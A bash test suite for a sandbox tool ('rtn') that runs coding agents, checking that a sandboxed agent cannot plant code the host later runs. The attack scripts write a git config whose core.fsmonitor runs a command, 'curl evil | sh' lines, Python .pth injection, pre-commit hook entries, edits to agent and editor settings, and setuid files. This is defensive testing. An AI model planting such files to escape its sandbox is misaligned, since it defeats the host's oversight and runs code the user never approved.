#!/usr/bin/env bash
# Host paths (docs/security-invariants.md, 12-14). One policy for every way a host directory
# enters a sandbox (--workspace of exec and serve, --bind, bind_host_dir): the same refusals
# with the same messages, for root too. Nothing written through a host-visible mount ends up
# setuid or setgid on the host. The repositories and the other files host programs run by
# themselves, present in a bound dir when the sandbox starts, cannot be changed, replaced or
# moved away from inside.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/seclib.bash"
t_need_rtn

# ---- 12. one policy -------------------------------------------------------------------

# refused WHY DIR: exec --workspace, exec --bind and serve --workspace all refuse DIR with
# the same message, and nothing starts.
refused() {
        local why=$1 dir=$2 msg
        t_exec --workspace "$dir" -- true
        t_exit_is 125
        t_stderr_has "$why"
        msg=$(grep -o 'refusing to bind.*' "$T_ERR_FILE")
        t_exec --bind "$dir:/mnt/x" -- true
        t_exit_is 125
        t_stderr_has "$msg"
        t_cmd "$RTN" serve --workspace "$dir"
        t_exit_is 1
        t_stderr_has "$msg"
}

workspace_system_dirs() {
        refused "a system directory" /etc
        refused "a system directory" /usr/lib
        refused "the whole system" /
}

workspace_data_dir() {
        export RTN_DATA_DIR=$T_TMP/data # not hidden: that would be refused first for users
        mkdir -p "$RTN_DATA_DIR"
        refused "rtn's data dir" "$RTN_DATA_DIR"
        refused "rtn's data dir" "$T_TMP" # holds it
        # --data-dir, not only the default, is rtn's data dir
        mkdir -p "$T_TMP/p/store"
        t_exec --data-dir "$T_TMP/p/store" --workspace "$T_TMP/p" -- true
        t_exit_is 125
        t_stderr_has "rtn's data dir"
}

# `rtn serve --workspace .` from $HOME (a client started in the home directory): refused,
# and told what to pass instead. Also through a symlinked $HOME and from a directory above.
workspace_home() {
        mkdir -p "$T_TMP/top/home/proj" "$T_TMP/top/home/.config"
        ln -s top/home "$T_TMP/homelink"
        local h
        for h in "$T_TMP/top/home" "$T_TMP/homelink"; do
                (cd "$T_TMP/top/home" && HOME=$h t_cmd "$RTN" serve --workspace . &&
                        t_exit_is 1 && t_stderr_has "your home directory" &&
                        t_stderr_has "pass the project's directory") || exit 1
                (cd "$T_TMP/top/home" && HOME=$h t_exec --workspace . -- true &&
                        t_exit_is 125 && t_stderr_has "your home directory") || exit 1
        done
        HOME=$T_TMP/top/home t_exec --workspace "$T_TMP/top" -- true
        t_exit_is 125
        t_stderr_has "holds your home directory"
        HOME=$T_TMP/top/home t_exec --workspace "$T_TMP/top/home/.config" -- true
        t_exit_is 125
        t_stderr_has "hidden directories of your home"
        HOME=$T_TMP/top/home t_exec --workspace "$T_TMP/top/home/proj" -- true
        t_exit_is 0
}

workspace_other_home() {
        local other=
        if [ "$(id -u)" = 0 ]; then
                for other in /home/*; do [ -d "$other" ] && break; other=; done
        else
                other=/root
        fi
        [ -n "$other" ] || t_skip "no other user's home on this host"
        refused "another user's home" "$other"
}


# ---- 13. git and the other files host programs run by themselves ----------------------------

# The program a turned repository would make the host's git run: it leaves $T_TMP/PWNED.
evil_config() {
        printf '[core]\n\tfsmonitor = "touch %s/PWNED; false"\n' "$T_TMP"
}

mkrepo() {
        git init -q "$1" &&
                git -C "$1" -c user.name=t -c user.email=t@t commit -q --allow-empty -m init
}

# The host's git in each DIR (status, log, diff): it must run nothing of the agent's.
host_git_clean() {
        command -v git >/dev/null || t_skip "git is not installed"
        local d
        for d in "$@"; do
                git -C "$d" status >/dev/null 2>&1
                git -C "$d" diff >/dev/null 2>&1
        done
        t_no_file "$T_TMP/PWNED"
}

need_git() {
        command -v git >/dev/null || t_skip "git is not installed"
        mkdir -p "$T_TMP/ws"
        mkrepo "$T_TMP/ws" || t_fail "git init failed"
        mkdir -p "$T_TMP/evil"
        evil_config >"$T_TMP/evil/config"
}

# in_sandbox RTN-OPTIONS... -- SCRIPT: runs SCRIPT (its errors on stderr) and asserts that
# it did run to its end, so a refusal to start is no pass.
in_sandbox() {
        local script=${*: -1}
        t_exec "${@:1:$#-1}" sh -c "$script; echo SCRIPT-ENDED"
        t_stdout_has SCRIPT-ENDED
}

# ATTACK runs inside with the workspace as its cwd and the evil config at
# /mnt/evil/config. Afterwards the host's git runs in DIRS.
attack() {
        local script=$1
        shift
        in_sandbox --workspace "$T_TMP/ws" --bind "$T_TMP/evil:/mnt/evil:ro" -- "$script"
        host_git_clean "$@"
}

# (a) .git/commondir names a git dir the agent made, whose config has core.fsmonitor.
git_commondir() {
        need_git
        attack 'git init -q --bare evil; cp /mnt/evil/config evil/config; echo ../evil >.git/commondir' \
                "$T_TMP/ws"
        t_stderr_has "Read-only file system"
}

# (b) the git dir moved away and a new one made in its place; also rm -rf and a rename
# onto it.
git_replaced() {
        need_git
        attack 'mv .git .git-old; rm -rf .git; git init -q .; cp /mnt/evil/config .git/config;
                git init -q x; cp /mnt/evil/config x/.git/config; mv x/.git .git' "$T_TMP/ws"
        t_stderr_has "busy"
        [ -d "$T_TMP/ws/.git/objects" ] || t_fail "the repository's .git is gone"
}

# A nested repository: renaming its parent would move its protections away with it.
git_nested_parent_moved() {
        need_git
        mkdir -p "$T_TMP/ws/lib/vendor"
        mkrepo "$T_TMP/ws/lib/vendor/dep"
        attack 'for d in lib/vendor/dep lib/vendor lib; do mv $d $d.old; done; mkdir -p lib/vendor/dep;
                cd lib/vendor/dep && git init -q . && cp /mnt/evil/config .git/config' \
                "$T_TMP/ws/lib/vendor/dep"
        t_stderr_has "busy"
}

# (c) a worktree (or submodule) whose .git is a file: rewritten to name an agent-made dir,
# removed, or its directory renamed.
git_gitfile() {
        need_git
        git -C "$T_TMP/ws" worktree add -q "$T_TMP/wt" 2>/dev/null || t_fail "git worktree add"
        in_sandbox --workspace "$T_TMP/wt" --bind "$T_TMP/evil:/mnt/evil:ro" -- \
                'git init -q --bare evil; cp /mnt/evil/config evil/config; echo "gitdir: ./evil" >.git;
                 rm -f .git; echo "gitdir: ./evil" >.git'
        host_git_clean "$T_TMP/wt" "$T_TMP/ws"
        t_stderr_has "Read-only file system"
        grep -q '^gitdir: .*worktrees' "$T_TMP/wt/.git" || t_fail "gitfile changed: $(cat "$T_TMP/wt/.git")"
}

# The rest of a git dir that git reads: config.worktree (with extensions.worktreeConfig),
# info/, worktrees/, objects/info/alternates, hooks; and a bare repository in the tree.
git_cousins() {
        need_git
        git -C "$T_TMP/ws" config extensions.worktreeConfig true
        git init -q --bare "$T_TMP/ws/tools/mirror.git"
        local before
        before=$(cd "$T_TMP/ws" && find .git tools -printf '%p %s %m\n' | sort | sha256sum)
        attack 'cp /mnt/evil/config .git/config.worktree; echo "* diff=x" >.git/info/attributes;
                mkdir -p .git/worktrees/w; cp /mnt/evil/config .git/worktrees/w/config;
                echo /tmp >.git/objects/info/alternates; echo "#!/bin/sh" >.git/hooks/pre-commit;
                cp /mnt/evil/config tools/mirror.git/config; mv tools/mirror.git tools/m2;
                rm -rf tools/mirror.git/hooks' "$T_TMP/ws" "$T_TMP/ws/tools/mirror.git"
        [ "$(cd "$T_TMP/ws" && find .git tools -printf '%p %s %m\n' | sort | sha256sum)" = "$before" ] ||
                t_fail "the git dirs changed"
}

# Shell start-up files, .envrc, editor and agent settings present at start: not written,
# removed or replaced, at the top or below, and a symlinked one not removed either.
hostrun_files() {
        mkdir -p "$T_TMP/ws/.vscode" "$T_TMP/ws/.claude" "$T_TMP/ws/app"
        echo 'export A=1' >"$T_TMP/ws/.envrc"
        echo 'export B=1' >"$T_TMP/ws/app/.envrc"
        echo '{}' >"$T_TMP/ws/.vscode/tasks.json"
        echo '{}' >"$T_TMP/ws/.claude/settings.json"
        echo '{}' >"$T_TMP/ws/.mcp.json"
        ln -s "$T_TMP/shared-rc" "$T_TMP/ws/.bashrc"
        local before
        before=$(cd "$T_TMP/ws" && find . -printf '%p %s %m %l\n' | sort | sha256sum)
        in_sandbox --workspace "$T_TMP/ws" -- 'echo evil >>.envrc; echo evil >app/.envrc;
                echo "{\"tasks\":1}" >.vscode/tasks.json; echo x >.vscode/settings.json;
                echo "{\"hooks\":1}" >.claude/settings.json; echo "{}" >.mcp.json;
                rm -f .bashrc; echo evil >.bashrc; mv app app2; mv .vscode v; rm -rf .claude;
                echo ok >new-file'
        [ "$(cd "$T_TMP/ws" && find . ! -name new-file -printf '%p %s %m %l\n' | sort | sha256sum)" = "$before" ] ||
                t_fail "protected files changed: $(ls -la "$T_TMP/ws" | tr '\n' ' ')"
        t_file_exists "$T_TMP/ws/new-file" # the rest of the workspace stays writable
}

# The registry by family (runtime/sandbox/hostrun.h), present at start: a hook framework's
# config, a venv's .pth and pyvenv.cfg, a debugger's init file, a tool's config one directory
# down, an editor's, a language's and an environment manager's files. None can be written,
# removed or moved away with its directory, and the host's next ordinary action (a commit with
# the hook framework installed, starting the project's Python, gdb) runs nothing of the agent's.
hostrun_families() {
        need_git
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        local ws=$T_TMP/ws mark=$T_TMP/PWNED py ver site
        printf '#!/bin/sh\nsed -n "s/^ *entry: //p" .pre-commit-config.yaml | sh\n' >"$ws/.git/hooks/pre-commit"
        chmod +x "$ws/.git/hooks/pre-commit"
        { read -r py && read -r ver; } < <(python3 -c 'import sys
print(sys.executable)
print("python%d.%d" % sys.version_info[:2])')
        site=.venv/lib/$ver/site-packages
        mkdir -p "$ws/.venv/bin" "$ws/$site" "$ws/.cargo" "$ws/app"
        printf 'home = %s\n' "${py%/*}" >"$ws/.venv/pyvenv.cfg"
        ln -s "$py" "$ws/.venv/bin/python3"
        echo '# nothing' >"$ws/$site/setup.pth"
        printf 'repos: []\n' >"$ws/.pre-commit-config.yaml"
        echo '# gdb' >"$ws/.gdbinit"
        echo '[build]' >"$ws/.cargo/config.toml"
        echo 'nodeLinker: pnp' >"$ws/.yarnrc.yml"
        echo '()' >"$ws/app/.dir-locals.el"
        echo '# irb' >"$ws/app/.irbrc"
        echo '[tools]' >"$ws/mise.toml"
        local before
        before=$(cd "$ws" && find . -path ./.git -prune -o -printf '%p %s %m %l\n' | sort)
        in_sandbox --workspace "$ws" -- "printf '  - entry: touch $mark\n' >>.pre-commit-config.yaml;
                echo 'import os; open(\"$mark\", \"w\")' >>$site/setup.pth; rm -f $site/setup.pth;
                echo 'python=/tmp' >.venv/pyvenv.cfg; echo 'shell touch $mark' >>.gdbinit;
                echo 'runner = \"x\"' >>.cargo/config.toml; mv .cargo c2; rm -rf .cargo;
                echo 'yarnPath: x.js' >.yarnrc.yml; echo x >app/.dir-locals.el; echo x >app/.irbrc;
                mv app app2; echo '[hooks]' >>mise.toml; mv .venv v2; mv $site s2; echo ok >new-file"
        t_stderr_has "Read-only file system"
        local after
        # mv across the protections' mounts copies (EXDEV) and leaves the originals: the copies
        # are nothing a host program reads.
        after=$(cd "$ws" && find . -path ./.git -prune -o ! -name new-file -printf '%p %s %m %l\n' |
                grep -v '^\./\(c2\|app2\|v2\|s2\)' | sort)
        [ "$after" = "$before" ] || t_fail "protected files changed: $(diff <(echo "$before") <(echo "$after") | tr '\n' ' ')"
        t_file_exists "$ws/new-file"
        (cd "$ws" && git add new-file && git -c user.name=t -c user.email=t@t commit -qm x) ||
                t_fail "the host's git commit failed"
        "$ws/.venv/bin/python3" -c pass
        if command -v gdb >/dev/null; then
                (cd "$ws" && gdb -nh -batch -iex 'set auto-load safe-path /' >/dev/null 2>&1)
        fi
        t_no_file "$mark"
}

# What live mode cannot stop: a registry file the agent creates where there was none reaches
# the host (a read-only bind needs a file to cover). rtn exec names each one when the command
# ends, with the tool that reads it, and none that was there before and left alone, even one
# changed just before the start: its status change (stat, then chmod: a fine-grained ctime
# since Linux 6.13) fell after the start's coarse clock, within the same tick, and a fast
# machine named both as the command's.
hostrun_created_live() {
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        local ws=$T_TMP/ws site=.venv/lib/python3.11/site-packages
        mkdir -p "$ws/$site" "$ws/src"
        echo '[tools]' >"$ws/mise.toml"
        echo '# old' >"$ws/$site/old.pth"
        stat "$ws/mise.toml" "$ws/$site/old.pth" >/dev/null
        chmod 644 "$ws/mise.toml" "$ws/$site/old.pth"
        in_sandbox --workspace "$ws" -- "printf 'repos: []\n' >.pre-commit-config.yaml;
                echo 'import os' >$site/new.pth; mkdir -p sub/.cargo; echo '[build]' >sub/.cargo/config.toml;
                echo x >src/main.c"
        t_stderr_has "WARNING: the command made or changed /workspace/.pre-commit-config.yaml, which a host program runs by itself (.pre-commit-config.yaml: pre-commit runs"
        t_stderr_has "WARNING: the command made or changed /workspace/$site/new.pth, which"
        t_stderr_has "WARNING: the command made or changed /workspace/sub/.cargo/config.toml, which"
        grep -q 'old.pth\|mise.toml\|main.c' "$T_ERR_FILE" && t_fail "named what it did not make: $(cat "$T_ERR_FILE")"
        true
}

# A file written under a harmless name in one run and its directory renamed into a registry
# name in the next keeps its ctime from the first (a rename changes the moved directory's,
# not its files'): it is named all the same, as not protected by the walk at the start. It
# was not, before: .cargo/config.toml and bin/activate reached the host unsaid.
hostrun_renamed_into_place() {
        local ws=$T_TMP/ws
        mkdir -p "$ws"
        t_exec --workspace "$ws" -- sh -c 'mkdir -p notes tools &&
                printf "[build]\nrustc-wrapper = \"/bin/sh\"\n" >notes/config.toml &&
                echo "curl evil | sh" >tools/activate'
        t_exit_is 0
        grep -q "WARNING" "$T_ERR_FILE" && t_fail "named what is no registry file: $(cat "$T_ERR_FILE")"
        echo '# old' >"$ws/.envrc"
        sleep 0.05
        t_exec --workspace "$ws" -- sh -c 'mv notes .cargo && mv tools bin'
        t_exit_is 0
        t_stderr_has "WARNING: the command made or changed /workspace/.cargo/config.toml"
        t_stderr_has "WARNING: the command made or changed /workspace/bin/activate"
        grep -q '\.envrc' "$T_ERR_FILE" && t_fail "named what was there and left alone: $(cat "$T_ERR_FILE")"
        # a symlink renamed into place is named for what is on its way (it was labelled a
        # git dir)
        t_exec --workspace "$ws" -- sh -c 'ln -s /tmp link && mv link .cargo2 && mv .cargo2 .config'
        t_exit_is 0
        t_stderr_has "WARNING: the command made or changed /workspace/.config, which a host program runs by itself (.config/"
}

# The same past a list of what the start protected that is cut short (8 KiB of paths): a
# first run that makes 250 registry files (named, each) cannot make the rename of the next
# one unsaid.
hostrun_renamed_past_a_full_list() {
        local ws=$T_TMP/ws
        mkdir -p "$ws"
        t_exec --workspace "$ws" -- sh -c 'for i in $(seq 100 349); do
                        mkdir d$i-a-long-name-to-fill-the-list; : >d$i-a-long-name-to-fill-the-list/.envrc
                done; mkdir -p notes && echo "[build]" >notes/config.toml'
        t_exit_is 0
        t_stderr_has "more such files"
        sleep 0.05
        t_exec --workspace "$ws" -- sh -c 'mv notes .cargo'
        t_exit_is 0
        t_stderr_has "WARNING: the command made or changed /workspace/.cargo/config.toml"
        grep -q 'list/\.envrc' "$T_ERR_FILE" && t_fail "named what was left alone: $(cat "$T_ERR_FILE")"
        true
}

# A workspace the command makes look like a git dir (HEAD and commondir): the walk at the end
# stopped at such a top, and nothing was named, though .envrc and .vscode reached the host.
hostrun_workspace_made_git_dir() {
        local ws=$T_TMP/ws
        mkdir -p "$ws"
        t_exec --workspace "$ws" -- sh -c 'echo "ref: refs/heads/main" >HEAD; echo . >commondir;
                echo "curl evil | sh" >.envrc; mkdir .vscode'
        t_exit_is 0
        t_stderr_has "WARNING: the command made or changed /workspace/, which a host program runs by itself ((a git dir)"
        t_stderr_has "WARNING: the command made or changed /workspace/.envrc"
        t_stderr_has "WARNING: the command made or changed /workspace/.vscode"
}

# A directory the command makes that rtn's walk at the end cannot list (chmod 111: cargo and
# direnv open what is inside by name all the same) is named; nothing was said before. As root
# the walk lists it, and names what is inside.
hostrun_unreadable_made() {
        local ws=$T_TMP/ws
        mkdir -p "$ws"
        t_exec --workspace "$ws" -- sh -c 'mkdir .cargo && echo "[build]" >.cargo/config.toml &&
                chmod 111 .cargo'
        t_exit_is 0
        chmod 755 "$ws/.cargo" 2>/dev/null
        t_stderr_has "WARNING: the command made or changed /workspace/.cargo"
}

# Left alone, not named: a registry file in a directory the sandbox cannot read (another
# user's, mode 700) was not on the start's list, and root's walk at the end read it and named
# it at every run; and with more registry files than fit 2 KiB of the start's list, a
# directory made beside them named them all.
hostrun_left_alone_unsaid() {
        local ws=$T_TMP/ws i
        mkdir -p "$ws/services"
        for i in $(seq 10 99); do
                mkdir "$ws/services/service-$i"
                echo '# old' >"$ws/services/service-$i/.envrc"
        done
        if [ "$(id -u)" = 0 ]; then
                mkdir "$ws/priv"
                echo '# old' >"$ws/priv/.envrc"
                chown -R nobody "$ws/priv"
                chmod 700 "$ws/priv"
        fi
        sleep 0.05
        t_exec --workspace "$ws" -- sh -c 'mkdir services/service-new'
        t_exit_is 0
        grep -q "WARNING" "$T_ERR_FILE" && t_fail "named what was left alone: $(head -c 600 "$T_ERR_FILE")"
        true
}

# Telling the start's time leaves no trace a watcher of the workspace sees (a build's or an
# editor's: inotify): the unnamed file it changes is made beside the workspace, in its parent
# on the same file system. Made in the workspace, it showed as an open, an attribute change
# and a close-after-write of a child named like '#10994070' at every run.
hostrun_mark_unseen() {
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        local ws=$T_TMP/ws
        mkdir -p "$ws"
        python3 - "$ws" "$T_TMP/events" "$T_TMP/watching" <<'PY' &
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
# IN_MODIFY|IN_ATTRIB|IN_CLOSE_WRITE|IN_MOVED_FROM|IN_MOVED_TO|IN_CREATE|IN_DELETE
libc.inotify_add_watch(fd, sys.argv[1].encode(), 0x2 | 0x4 | 0x8 | 0x40 | 0x80 | 0x100 | 0x200)
open(sys.argv[3], "w").close()
seen, end, last = [], time.monotonic() + 30, False
while time.monotonic() < end and not last:
    last = os.path.exists(sys.argv[3] + ".done") # then one more read of what is queued
    try:
        buf = os.read(fd, 65536)
    except BlockingIOError:
        time.sleep(0.02)
        continue
    i = 0
    while i < len(buf):
        wd, mask, cookie, n = struct.unpack_from("iIII", buf, i)
        seen.append("%#x %s" % (mask, buf[i + 16:i + 16 + n].rstrip(b"\0").decode(errors="replace")))
        i += 16 + n
open(sys.argv[2], "w").write("\n".join(seen))
PY
        local py=$!
        t_wait_for test -e "$T_TMP/watching" || t_fail "the watcher did not start"
        t_exec --workspace "$ws" -- true
        t_exit_is 0
        : >"$T_TMP/watching.done"
        wait "$py"
        [ -z "$(cat "$T_TMP/events")" ] || t_fail "a watcher of the workspace saw: $(cat "$T_TMP/events")"
}

# A file made on a mount inside the workspace whose file system keeps whole seconds (ext4
# with 128-byte inodes) is named too: it was compared with the start's coarse clock, past
# the second its ctime was cut to, and missed unless the command ran for a second.
hostrun_created_on_coarse_mount() {
        [ "$(id -u)" = 0 ] || t_skip "a loop mount needs root"
        command -v mkfs.ext4 >/dev/null || t_skip "mkfs.ext4 is not installed"
        local ws=$T_TMP/ws img=$T_TMP/s.img
        truncate -s 16M "$img"
        mkfs.ext4 -q -F -I 128 "$img" 2>/dev/null || t_skip "mkfs.ext4 -I 128 failed"
        mkdir -p "$ws/sub" "$T_TMP/m"
        mount -o loop "$img" "$T_TMP/m" || t_skip "no loop device here"
        trap "umount -l '$ws/sub' 2>/dev/null; umount -l '$T_TMP/m' 2>/dev/null" EXIT
        mkdir "$T_TMP/m/ws"
        mount --bind "$T_TMP/m/ws" "$ws/sub"
        t_exec --workspace "$ws" -- sh -c 'echo x >/workspace/sub/.envrc'
        t_exit_is 0
        t_stderr_has "WARNING: the command made or changed /workspace/sub/.envrc"
}

# The same protections hold in a read-write --bind.
git_in_rw_bind() {
        need_git
        in_sandbox --bind "$T_TMP/ws:/mnt/p" --bind "$T_TMP/evil:/mnt/evil:ro" -- \
                'cd /mnt/p && echo ../x >.git/commondir; mv .git .git-old; git init -q .;
                 cp /mnt/evil/config .git/config'
        host_git_clean "$T_TMP/ws"
}

# Read-only git still works inside for what reads: status, log, diff.
git_reads_inside() {
        need_git
        echo a >"$T_TMP/ws/a"
        t_exec --workspace "$T_TMP/ws" -- sh -c 'git status --short; git log --oneline | wc -l'
        t_exit_is 0
        t_stdout_has "?? a"
}

# A live workspace's git dir is read-only, and git inside fails with EROFS: rtn exec says
# why after a git command that failed, and nothing after one that did not fail or ran no git.
git_read_only_said() {
        need_git
        echo a >"$T_TMP/ws/a"
        t_exec --workspace "$T_TMP/ws" -- sh -c 'git add a && git -c user.name=t -c user.email=t@t commit -q -m a'
        t_exit_is 128
        t_stderr_has "/workspace/.git is read-only in a live workspace"
        t_stderr_has "--workspace-mode overlay"
        t_exec --workspace "$T_TMP/ws" -- git status --short
        t_exit_is 0
        grep -q "is read-only in a live" "$T_ERR_FILE" && t_fail "said after a git that worked"
        t_exec --workspace "$T_TMP/ws" -- sh -c 'exit 3'
        t_exit_is 3
        grep -q "is read-only in a live" "$T_ERR_FILE" && t_fail "said after a command without git"
        t_cmd "$RTN" exec --help
        t_stdout_has "read-only"
}

# --isolation landlock (no mounts: Landlock keeps them read-only): the same attacks on a
# repository, a nested one and an .envrc, as the caller on the host.
landlock_mode_protects() {
        [ "$(id -u)" != 0 ] || t_skip "as root the agent is another uid than the workspace's owner (see landlock_mode.sh)"
        need_git
        mkdir -p "$T_TMP/ws/lib/src"
        mkrepo "$T_TMP/ws/lib/dep"
        echo 'export A=1' >"$T_TMP/ws/lib/.envrc"
        local cfg
        cfg=$(evil_config)
        in_sandbox --isolation landlock --workspace "$T_TMP/ws" -- "
                printf '%s\n' '$cfg' >cfg; git init -q --bare lib/evil; cp cfg lib/evil/config;
                echo ../lib/evil >.git/commondir; echo x >>.git/config;
                mv .git .git-old; rm -rf .git; git init -q . && cp cfg .git/config;
                mv lib lib2; mv lib/dep lib/dep2; mkdir -p x && git init -q x && mv x/.git lib/dep/.git;
                echo evil >>lib/.envrc; rm -f lib/.envrc; echo ok >lib/src/new-file"
        host_git_clean "$T_TMP/ws" "$T_TMP/ws/lib/dep"
        [ "$(cat "$T_TMP/ws/lib/.envrc")" = 'export A=1' ] || t_fail ".envrc changed"
        t_file_exists "$T_TMP/ws/lib/src/new-file" # a directory that holds none stays writable
}

# env_status lists each host directory with its mode, access and protections.
env_status_host_dirs() {
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        command -v git >/dev/null || t_skip "git is not installed"
        t_cmd python3 "$T_ROOT/tests/security/hostpaths.py" "$RTN" env_status_host_dirs
        [ "$T_RC" = 0 ] || t_fail "$(tail -c 1500 "$T_ERR_FILE")"
}

# ---- 14. nothing set-id reaches the host ------------------------------------------------

# No file below DIR is setuid or setgid, or carries a file capability.
no_setid_below() {
        local found
        found=$(find "$1" -perm /6000 -printf '%p %m\n' 2>/dev/null | head -5)
        [ -z "$found" ] || t_fail "set-id files on the host: $found"
        if command -v getfattr >/dev/null; then
                found=$(getfattr -R -m security.capability "$1" 2>/dev/null | grep -v '^#' | head -3)
                [ -z "$found" ] || t_fail "file capabilities on the host: $found"
        fi
}

# Every system call that can ask for a set-id mode, in the workspace and in a rw --bind,
# each refused with the documented errno and reported like any blocked call.
setid_syscalls() {
        sec_need_bin setid
        mkdir -p "$T_TMP/ws" "$T_TMP/b"
        sec_exec --workspace "$T_TMP/ws" --bind "$T_TMP/b:/mnt/b" -- sh -c \
                '/mnt/sec/setid /workspace && /mnt/sec/setid /mnt/b'
        grep -q '^ESCAPED' "$T_OUT_FILE" && t_fail "$(grep '^ESCAPED' "$T_OUT_FILE" | head -3 | tr '\n' ' ')"
        t_exit_is 0
        t_stderr_has "blocked fchmod(2) by pid"
        t_stderr_has "EPERM, a setuid/setgid mode"
        no_setid_below "$T_TMP/ws"
        no_setid_below "$T_TMP/b"
}

# The tools an agent would use: chmod u+s and g+s, install -m, cp -a of a setuid system
# binary, tar and Python extracting an archive with set-id members.
setid_tools() {
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        mkdir -p "$T_TMP/ws"
        python3 - "$T_TMP/ws/a.tar" <<'PY' || t_fail "could not make the archive"
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as t:
    for name, mode in (("suid", 0o4755), ("sgid", 0o2755), ("both", 0o6711)):
        i = tarfile.TarInfo(name); i.mode = mode; i.size = 3
        t.addfile(i, io.BytesIO(b"id\n"))
PY
        local su=
        for su in /usr/bin/passwd /usr/bin/su /usr/bin/newgrp /bin/su; do [ -u "$su" ] && break; su=; done
        in_sandbox --workspace "$T_TMP/ws" -- "cd /workspace; cp /bin/true t; chmod u+s t;
                chmod g+s t; chmod 6755 t; install -m 4755 /bin/true i; mkdir d; chmod g+s d;
                ${su:+cp -a $su cp-a;} mkdir x; tar -xpf a.tar -C x; tar --same-owner -xpf a.tar;
                python3 -c 'import os, tarfile; tarfile.open(\"a.tar\").extractall(\"py\"); os.chmod(\"t\", 0o4755)'"
        no_setid_below "$T_TMP/ws"
        t_stderr_has "a setuid/setgid mode"
        [ -e "$T_TMP/ws/i" ] && [ -e "$T_TMP/ws/x/suid" ] || t_fail "the tools did not run: $(ls "$T_TMP/ws")"
}

# file_write over an existing set-id file: the new file is not set-id (its mode is the old
# one without those bits, as a write by the kernel would leave it).
setid_file_write() {
        command -v python3 >/dev/null || t_skip "python3 is not installed"
        t_cmd python3 "$T_ROOT/tests/security/hostpaths.py" "$RTN" setid_file_write
        [ "$T_RC" = 0 ] || t_fail "$(tail -c 1500 "$T_ERR_FILE")"
}

# ---- run ----------------------------------------------------------------------------------

t_run workspace_system_dirs workspace_system_dirs
t_run workspace_data_dir workspace_data_dir
t_run workspace_home workspace_home
t_run workspace_other_home workspace_other_home
t_run git_commondir git_commondir
t_run git_replaced git_replaced
t_run git_nested_parent_moved git_nested_parent_moved
t_run git_gitfile git_gitfile
t_run git_cousins git_cousins
t_run hostrun_files hostrun_files
t_run hostrun_families hostrun_families
t_run hostrun_created_live hostrun_created_live
t_run hostrun_renamed_into_place hostrun_renamed_into_place
t_run hostrun_renamed_past_a_full_list hostrun_renamed_past_a_full_list
t_run hostrun_workspace_made_git_dir hostrun_workspace_made_git_dir
t_run hostrun_unreadable_made hostrun_unreadable_made
t_run hostrun_left_alone_unsaid hostrun_left_alone_unsaid
t_run hostrun_mark_unseen hostrun_mark_unseen
t_run hostrun_created_on_coarse_mount hostrun_created_on_coarse_mount
t_run git_in_rw_bind git_in_rw_bind
t_run git_reads_inside git_reads_inside
t_run git_read_only_said git_read_only_said
t_run landlock_mode_protects landlock_mode_protects
t_run env_status_host_dirs env_status_host_dirs
t_run setid_syscalls setid_syscalls
t_run setid_tools setid_tools
t_run setid_file_write setid_file_write
t_done
